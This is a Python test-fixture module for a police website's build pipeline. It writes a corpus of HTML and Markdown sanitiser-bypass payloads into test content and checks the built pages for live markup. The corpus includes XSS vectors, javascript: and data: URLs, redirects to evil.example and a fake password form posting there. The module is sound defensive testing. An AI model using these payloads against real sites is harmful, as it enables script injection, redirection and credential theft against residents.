"""Known ways past an HTML allow-list, a site that carries them everywhere, and a check for live markup.

Each payload, if it ran, would open a dialog (`alert(N)`, N its place in the
corpus) or go to evil.example. tests/test_hostile_html.py parses what the build
makes; tests/quality/test_hostile_browser.py loads it in chromium.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import lxml.etree
import lxml.html
import pytest

from conftest import MINIMAL, NOW, copy_site
from wmpsite.build import pipeline
from wmpsite.content import loader

#: (what the trick is, the text an editor types).
CORPUS: tuple[tuple[str, str], ...] = (
    ("comment ended at once", '<!--><meta http-equiv="refresh" content="0;url=https://evil.example/">-->'),
    ("CDATA in HTML", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("comment ended by --!>", "<!-- x --!><img src=x onerror=alert(2)>-->"),
    ("comment <!--->", "<!---><b onclick=alert(3)>click</b>-->"),
    ("script", "<script>alert(4)</script>"),
    ("split script tag", "<scr<script>ipt>alert(5)</script>"),
    ("event handler", '<span onmouseover="alert(6)">hover</span>'),
    ("mixed-case handler", "<span OnClIcK=alert(7)>x</span>"),
    ("attribute breaking", "<span title='a\"><img src=x onerror=alert(8)>'>x</span>"),
    ("slash instead of space", "<abbr title=x/onclick=alert(9)>x</abbr>"),
    ("ontoggle", "<details open ontoggle=alert(10)><summary>x</summary></details>"),
    ("unclosed tag", "<img src=x onerror=alert(11)//"),
    ("svg onload", "<svg onload=alert(12)></svg>"),
    ("script in svg", "<svg><script>alert(13)</script></svg>"),
    ("MathML style trick", "<math><mtext><table><mglyph><style><img src=x onerror=alert(14)>"),
    ("noscript trick", '<noscript><p title="</noscript><img src=x onerror=alert(15)>">'),
    ("textarea", "<textarea><img src=x onerror=alert(16)></textarea>"),
    ("base", '<base href="https://evil.example/">'),
    ("meta refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    ("fake login form", '<form action="https://evil.example/"><input type="password" name="p">'
                        "<button>Sign in</button></form>"),
    ("iframe srcdoc", '<iframe srcdoc="&lt;script&gt;alert(17)&lt;/script&gt;"></iframe>'),
    ("object", '<object data="javascript:alert(18)"></object>'),
    ("embed", '<embed src="javascript:alert(19)">'),
    ("raw javascript link", '<a href="javascript:alert(20)">x</a>'),
    ("entity-encoded javascript", "[x](jav&#x61;script:alert(21))"),
    ("mixed-case javascript", "[x](JaVaScRiPt:alert(22))"),
    ("javascript with a tab", "[x](java&#9;script:alert(23))"),
    ("data URL", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgyNCk8L3NjcmlwdD4=)"),
    ("vbscript URL", "[x](vbscript:msgbox(25))"),
    ("javascript image", "![x](javascript:alert(26))"),
    ("protocol-relative link", "[x](//evil.example/)"),
    ("backslash link", "[x](/\\evil.example/)"),
    ("attribute list handler", "## Heading {: onclick=\"alert(27)\" }"),
    ("attribute list on a link", "[x](https://www.gov.uk/){: href=\"javascript:alert(28)\" }"),
    ("quotation source", '<q cite="javascript:alert(29)">x</q>'),
    ("style", "<style>body{background:url(https://evil.example/)}</style>"),
    ("link", '<link rel="stylesheet" href="https://evil.example/x.css">'),
)

#: Elements that no content may bring, in a page or a feed.
ACTIVE = frozenset({"script", "meta", "base", "form", "iframe", "object", "embed", "svg", "math", "frame",
                    "frameset", "link", "style", "input", "button", "textarea", "template", "noscript"})
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "data", "poster", "cite", "background",
                            "xlink:href", "srcset"})
_BAD_URL = re.compile(r"^(?:javascript|data|vbscript):|^//|evil\.example", re.IGNORECASE)


def bad_url(value: str) -> bool:
    """What a browser would follow off the site or run: ignoring spaces, controls and backslashes."""
    return bool(_BAD_URL.search(re.sub(r"[\x00-\x20\x7f]", "", value).replace("\\", "/")))


def _body(kind: str) -> str:
    """A body that carries every payload, each on a paragraph of its own."""
    return f"Opening words of the {kind}.\n\n" + "\n\n".join(text for _, text in CORPUS) + "\n"


def _field(number: int, most: int = 110) -> str:
    """A text field's value: a payload, cut to fit the field, as a YAML string."""
    return json.dumps(CORPUS[number % len(CORPUS)][1][:most])


def hostile_files() -> dict[str, str]:
    """A news story, a page, an alert active at NOW and three appeals (open, ended, local), each with the
    corpus in its body and payloads in its text fields."""
    f = _field
    return {
        "content/news/2026-11-20-hostile-story.md": f"""---
title: {f(0)}
date: 2026-11-20 10:00
summary: "x<img src=x onerror=alert(11)>"
tags: [hostile]
image: {{src: images/bike.svg, alt: {f(1)}}}
---
{_body("story")}""",
        "content/pages/hostile-page.md": f"""---
title: {f(2)}
summary: {f(3)}
---
{_body("page")}""",
        "content/alerts/2026-11-25-hostile-alert.md": f"""---
title: {f(4)}
severity: critical
start: 2026-11-25 06:00
end: 2026-11-26 06:00
summary: {f(5)}
---
{_body("alert")}""",
        "content/appeals/2026-11-21-hostile-appeal.md": f"""---
title: {f(6)}
kind: witness-appeal
summary: {f(7)}
history:
  - {{date: 2026-11-21 09:00, status: open}}
  - {{date: 2026-11-22 09:00, status: updated, note: {f(8)}}}
area: {f(9)}
reference: {f(10, 60)}
last_seen: {f(11)}
post: {f(12)}
lpus: [northfield]
---
{_body("appeal")}""",
        "content/appeals/2026-11-02-hostile-ended.md": f"""---
title: {f(13)}
kind: witness-appeal
summary: {f(14)}
history:
  - {{date: 2026-11-02 09:00, status: open}}
  - {{date: 2026-11-10 09:00, status: resolved, note: {f(15)}}}
update: {{text: {f(16)}, url: "https://www.testshire.police.example/news/"}}
---
{_body("ended appeal")}""",
        "content/lpus/northfield/appeals/2026-11-23-hostile-local.md": f"""---
title: {f(17)}
kind: stolen-property
summary: {f(18)}
history:
  - {{date: 2026-11-23 09:00, status: open}}
---
{_body("local appeal")}""",
    }


def write_hostile_site(target: Path) -> Path:
    """The minimal force with hostile_files() written over it."""
    return copy_site(MINIMAL, target, hostile_files())


def build_unchecked(root: Path, out: Path) -> None:
    """Build `root` with the editor-facing Markdown checks silenced, so every payload reaches the
    sanitiser: what residents get must be safe whatever those checks miss."""
    convert = loader.convert_body

    def convert_without_errors(*args, **kwargs):
        body, _errors = convert(*args, **kwargs)
        return body, []

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(loader, "convert_body", convert_without_errors)
        pipeline.build(root, out, now=NOW, cache=False)


def live_markup(root, where: str, *, page: bool) -> list[str]:
    """Everything in a parsed tree that could run or send a resident elsewhere.

    In a whole page (`page`), the template's own head elements, JSON-LD, scripts from the site and
    search forms are expected; in a feed's HTML nothing active is.
    """
    found = []
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        tag = el.tag.rsplit("}", 1)[-1].lower()
        parent = el.getparent()
        in_head = parent is not None and parent.tag == "head"
        if tag in ACTIVE and not (page and _expected(tag, el, in_head)):
            found.append(f"{where}: <{tag}> {dict(el.attrib)}")
        for name, value in el.attrib.items():
            name = name.lower()
            if name.startswith("on") or name == "srcdoc" or (name in URL_ATTRIBUTES and bad_url(value)):
                found.append(f"{where}: <{tag} {name}={value!r}>")
    return found


def _expected(tag: str, el, in_head: bool) -> bool:
    """The template's own: head's meta (no refresh) and link, JSON-LD and the site's scripts, search forms
    and the buttons its scripts use."""
    if tag in ("meta", "link"):
        return in_head and "refresh" not in el.get("http-equiv", "").lower()
    if tag == "script":
        return el.get("type") == "application/ld+json" or el.get("src", "").startswith("/js/")
    if tag == "form":
        return el.get("role") == "search"
    if tag == "button" and el.get("type") == "button":
        return True  # does nothing but what the site's own script gives it
    return tag in ("input", "button") and el.get("type") != "password" and any(
        a.tag == "form" and a.get("role") == "search" for a in el.iterancestors())


def html_fragment(text: str):
    """An HTML fragment (a feed's content or a field a reader may read as HTML), parsed as a reader would."""
    return lxml.html.fragment_fromstring(text or "", create_parent="div")


def page_tree(path: Path):
    return lxml.html.document_fromstring(path.read_bytes())


def xml_tree(path: Path):
    return lxml.etree.parse(str(path))
